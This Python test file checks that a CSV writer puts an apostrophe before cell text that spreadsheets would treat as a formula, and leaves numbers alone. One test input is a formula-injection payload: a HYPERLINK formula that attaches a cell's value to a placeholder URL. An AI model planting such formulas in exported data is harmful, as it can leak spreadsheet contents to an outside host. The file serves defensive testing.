"""Cells as they are written to CSV."""

from vennforest.tables.write import without_formula

# Spreadsheet programs take some text for formulas.
FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
FORMULAS = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "+41 79 1", "-", "-x"]
NO_FORMULAS = ["-5", "+5.5", "-1e-300", " -5", "", "x=1", "a-b", "'=1", "-inf"]


def test_an_apostrophe_goes_before_a_formula():
    assert [*map(without_formula, FORMULAS)] == ["'" + text for text in FORMULAS]
    assert [*map(without_formula, NO_FORMULAS)] == NO_FORMULAS
